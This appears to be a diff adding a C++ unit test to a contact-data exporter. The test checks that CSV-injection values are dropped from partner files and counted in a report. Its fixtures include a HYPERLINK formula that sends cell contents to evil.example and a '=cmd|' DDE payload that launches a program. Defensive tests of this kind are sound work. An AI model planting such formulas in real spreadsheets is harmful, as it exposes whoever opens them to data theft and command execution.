@@ -224,6 +224,49 @@ TEST_P(EveryRowReason, IsCountedAndTheSameOnBothPaths) {
   EXPECT_EQ(report["trust"]["chain"]["receipts"], 9);
 }
 
+// CSV injection: an email or postal address a spreadsheet would run as a
+// formula is left out and counted, never altered; phone numbers pass.
+TEST(Export, FormulaLikeValuesAreLeftOutNotAltered) {
+  World w;
+  IssueSpec a;
+  a.decisions = {{"postal", "not-objected"}, {"phone", "not-objected"}, {"email", "granted"}};
+  const std::string formula_email = R"(=HYPERLINK("https://evil.example/?"&A1)@evil.example)";
+  a.contacts = {{"email", formula_email}, {"phone", "+33 6 12 34 56 78"}, {"postal", "@home, 1 rue Y"}};
+  const std::string a_id = w.issue(a);
+  IssueSpec b;
+  b.decisions = {{"postal", "not-objected"}, {"phone", "objected"}};
+  b.contacts = {{"postal", "=cmd|' /C calc'!A0"}};
+  const std::string b_id = w.issue(b);
+  IssueSpec c;  // a hyphen or a plus inside a value is nothing
+  c.decisions = {{"postal", "not-objected"}, {"phone", "objected"}};
+  c.contacts = {{"postal", "1 rue Jean-Jaurès, 75001 Paris +"}};
+  const std::string c_id = w.issue(c);
+  const std::string contacts = w.write_contacts(
+      "contacts.csv", {kHeader,
+                       {a_id, "A", formula_email, "+33 6 12 34 56 78", "", "@home, 1 rue Y", ""},
+                       {b_id, "B", "", "", "", "  =cmd|' /C calc'!A0", ""},
+                       {c_id, "C", "", "", "", "1 rue Jean-Jaurès, 75001 Paris +", ""}});
+  for (const bool reverify : {false, true}) {
+    exporter::ExportOptions options;
+    options.reverify = reverify;
+    const std::string out = reverify ? "out-reverify" : "out";
+    auto outcome = w.run(contacts, out, options);
+    ASSERT_TRUE(outcome.ok()) << outcome.problems().front().message;
+    const auto acme = read_csv(w.path(out + "/partner-acme.csv"));
+    ASSERT_EQ(acme.size(), 3u) << reverify;
+    EXPECT_EQ(acme[1], (Fields{a_id, "", "+33 6 12 34 56 78", "", ""}));
+    EXPECT_EQ(acme[2], (Fields{c_id, "1 rue Jean-Jaurès, 75001 Paris +", "", "", ""}));
+    const Json& report = partner_report(outcome.value().report, "acme");
+    EXPECT_EQ(count(report["valuesLeftOut"], "formula-like", "email"), 1);
+    EXPECT_EQ(count(report["valuesLeftOut"], "formula-like", "postal_address"), 2);
+    EXPECT_EQ(count(report["rowsLeftOut"], "formula-like"), 1);  // b: nothing else to send
+    EXPECT_EQ(report["rowsWritten"], 2);
+    const std::string text = read_text(w.path(out + "/partner-acme.csv"));
+    EXPECT_EQ(text.find("HYPERLINK"), std::string::npos);
+    EXPECT_EQ(text.find("calc"), std::string::npos);
+  }
+}
+
 TEST(Export, BrokenChainRefusesToExport) {
   // A compact record edited behind the ledger's back (the email consent
   // flipped): the chain the export checks covers the records, in both modes.
